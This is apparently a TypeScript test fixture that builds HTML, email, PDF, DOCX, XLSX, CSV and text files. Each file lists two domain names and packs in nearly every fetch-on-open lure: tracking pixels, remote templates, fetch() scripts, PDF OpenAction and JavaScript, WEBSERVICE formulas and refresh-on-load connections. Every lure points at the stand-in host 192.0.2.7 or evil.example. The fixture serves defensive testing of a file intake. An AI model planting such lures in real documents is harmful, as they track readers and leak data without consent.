// One document of each kind with two names in it and everything by which such a document gets a reader to fetch something: remote
// templates, pictures, styles, scripts, links, fonts, actions on opening. Nobody is at 192.0.2.7.
import { docxOf, paragraph, relations, run, table, xlsxOf } from '../intake/office-file.ts';
import { lines, pdfOf, text } from '../intake/pdf-file.ts';

export const LURED = ['acme-one.com', 'acme-two.net'] as const;

const AT = 'http://192.0.2.7';
const [ONE, TWO] = LURED;

const PAGE = `<!DOCTYPE html><html><head><base href="${AT}/"><meta http-equiv="refresh" content="0;url=${AT}/next">
<link rel="stylesheet" href="${AT}/a.css"><link rel="preconnect" href="${AT}"><link rel="dns-prefetch" href="//evil.example">
<style>@import url("${AT}/b.css"); @font-face { font-family: f; src: url("${AT}/f.woff2") } body { background: url("${AT}/b.png") }</style>
<script src="${AT}/a.js"></script><script>fetch('${AT}/b')</script></head><body onload="fetch('${AT}/c')">
<img src="${AT}/a.png" srcset="${AT}/b.png 2x"><iframe src="${AT}/i.html"></iframe><object data="${AT}/o.svg"></object><embed src="${AT}/e.swf">
<video src="${AT}/v.mp4" poster="${AT}/p.png"></video><svg><image href="${AT}/s.png"/><use href="${AT}/u.svg#a"/></svg>
<table><tr><th>Domain</th></tr><tr><td>${ONE}</td></tr><tr><td>${TWO}</td></tr></table></body></html>`;

const MAIL = `From: Counsel <counsel@firm.example>
To: us@petitioner.example
Disposition-Notification-To: counsel@evil.example
List-Unsubscribe: <${AT}/unsubscribe>
Subject: the list
MIME-Version: 1.0
Content-Base: ${AT}/
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html

<p>The list:</p><img src="${AT}/pixel.gif" width=1 height=1><link rel="stylesheet" href="${AT}/m.css"><p>${ONE}</p><p>${TWO}</p>
--b
Content-Type: message/external-body; access-type=URL; URL="${AT}/body"

Content-Type: text/plain

--b
Content-Type: message/external-body; access-type=anon-ftp; site="192.0.2.7"; name="list.txt"

Content-Type: text/plain

--b--
`;

/** By the name of the file. */
export const LURING: Readonly<Record<string, Uint8Array | string>> = {
  'list.txt': `${ONE}\n${TWO}\n# ${AT}/more\n`,
  'list.csv': `domain,note\n${ONE},"=WEBSERVICE(""${AT}/a"")"\n${TWO},"=HYPERLINK(""${AT}/b"")"\n`,
  'list.html': PAGE,
  'list.eml': MAIL.replaceAll('\n', '\r\n'),
  'list.pdf': pdfOf([`${lines(72, 72, LURED, { pitch: 40 })}\n${text(72, 300, 'AB', { font: 'F2' })}`], {
    catalogue:
      `/OpenAction << /S /URI /URI (${AT}/open) >> /AA << /WC << /S /SubmitForm /F (${AT}/form) >> >> ` +
      `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\("${AT}/js"\\)) >>] >> >>`,
    page:
      `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /URI /URI (${AT}/link) >> >> ` +
      `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /FS /URL /F (${AT}/file) >> >>] ` +
      `/AA << /O << /S /GoToR /F << /FS /URL /F (${AT}/other.pdf) >> /D [0] >> >>`,
    // Which characters its codes mean stands in a file that readers fetch.
    font: '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> >>] >>',
  }),
  'list.docx': docxOf(
    paragraph(run('The list:')) +
      `<w:altChunk r:id="c" xmlns:r="r"/>${paragraph(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;${AT}/f.png&quot; ">${run('x')}</w:fldSimple>`)}` +
      table([[paragraph(run('Domain'))], ...LURED.map((name) => [paragraph(run(name))])]),
    {
      relations: [
        ['t', 'attachedTemplate', `${AT}/t.dotm`, true],
        ['i', 'image', `${AT}/i.png`, true],
        ['c', 'aFChunk', `${AT}/chunk.html`, true],
        ['o', 'oleObject', `${AT}/o.bin`, true],
        ['h', 'hyperlink', `${AT}/h`, true],
      ],
      parts: {
        'word/settings.xml': '<w:settings xmlns:w="w"><w:attachedTemplate r:id="t" xmlns:r="r"/></w:settings>',
        'word/_rels/settings.xml.rels': relations([['t', 'attachedTemplate', `${AT}/t.dotm`, true]]),
      },
    },
  ),
  'list.xlsx': xlsxOf(
    [
      {
        name: 'Names',
        body: `<sheetData>${['Domain', ...LURED]
          .map((name, at) => `<row r="${at + 1}"><c r="A${at + 1}" t="inlineStr"><is><t>${name}</t></is></c></row>`)
          .join(
            '',
          )}<row r="5"><c r="B5" t="str"><f>WEBSERVICE("${AT}/w")</f><v/></c><c r="C5" t="str"><f>[1]Far!A1</f><v/></c></row></sheetData>`,
      },
    ],
    {
      relations: [
        ['x', 'externalLink', 'externalLinks/externalLink1.xml'],
        ['c', 'connections', 'connections.xml'],
      ],
      parts: {
        'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="r1" xmlns:r="r"/></externalLink>',
        'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
          ['r1', 'externalLinkPath', `${AT}/far.xlsx`, true],
        ]),
        'xl/connections.xml': `<connections><connection id="1" name="a" refreshOnLoad="1"><webPr url="${AT}/query"/></connection></connections>`,
      },
    },
  ),
};
